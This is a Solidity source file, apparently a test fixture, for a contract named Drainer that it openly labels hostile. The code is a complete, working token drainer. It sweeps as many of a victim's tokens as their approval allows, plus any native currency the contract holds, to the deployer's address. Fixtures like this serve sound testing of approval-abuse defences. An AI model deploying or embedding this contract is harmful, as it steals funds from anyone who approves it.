// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20Like {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
}

/// @title Drainer — HOSTILE fixture: the "attacker" spender. Whoever approves
/// it loses, on the next `drain`, everything the allowance reaches.
contract Drainer {
    address public immutable attacker;

    constructor() {
        attacker = msg.sender;
    }

    /// Takes any native value sent with any call (and forwards it on `drain`).
    receive() external payable {}

    fallback() external payable {}

    /// Pulls min(balance, allowance) of `token` from `victim` to the attacker.
    function drain(address token, address victim) external returns (uint256 taken) {
        IERC20Like t = IERC20Like(token);
        uint256 bal = t.balanceOf(victim);
        uint256 allowed = t.allowance(victim, address(this));
        taken = bal < allowed ? bal : allowed;
        if (taken != 0) require(t.transferFrom(victim, attacker, taken), "drain");
        uint256 native = address(this).balance;
        if (native != 0) {
            (bool ok,) = payable(attacker).call{value: native}("");
            require(ok, "drain native");
        }
    }
}
